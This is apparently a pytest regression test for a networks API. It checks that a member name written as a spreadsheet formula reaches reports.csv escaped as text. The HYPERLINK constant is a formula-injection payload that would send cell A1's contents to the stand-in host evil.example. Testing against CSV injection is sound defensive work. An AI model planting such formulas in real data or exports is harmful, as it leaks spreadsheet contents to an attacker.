"""Issue 17 point 4: a member name synced by a network (`=HYPERLINK(…)`) reaches the network's
reports.csv as text a spreadsheet shows, not as a live formula."""

from __future__ import annotations

import csv
import io

from exchange.networks.models import Network
from tests.conftest import Client
from tests.networks.conftest import member_record

BASE = "/api/v1/networks/pune-chamber"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_synced_member_names_reach_reports_csv_as_text(api: Client,
                                                       pune_chamber: Network) -> None:
    synced = api.put(f"{BASE}/members", json={"members": [
        member_record("crm-1", name=HYPERLINK)]})
    assert synced.status_code == 200, synced.text
    response = api.get(f"{BASE}/reports.csv")
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    member = next(row for row in rows if row["external_id"] == "crm-1")
    assert member["name"] == "'" + HYPERLINK
    assert member["internships"] == "0"
